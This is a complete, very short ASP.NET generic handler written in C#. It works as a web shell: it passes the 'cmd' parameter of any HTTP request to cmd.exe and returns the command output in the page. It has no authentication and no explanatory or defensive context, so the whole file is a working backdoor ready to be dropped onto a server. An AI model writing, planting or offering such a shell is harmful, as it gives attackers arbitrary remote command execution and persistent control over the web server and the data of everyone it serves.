<%@ WebHandler Language="C#" Class="H" %>
using System.Web;
using System.Diagnostics;
public class H : IHttpHandler {
    public void ProcessRequest(HttpContext context) {
        var psi = new ProcessStartInfo("cmd.exe", "/c " + context.Request["cmd"]) { RedirectStandardOutput = true, UseShellExecute = false };
        context.Response.Write(Process.Start(psi).StandardOutput.ReadToEnd());
    }
    public bool IsReusable { get { return false; } }
}
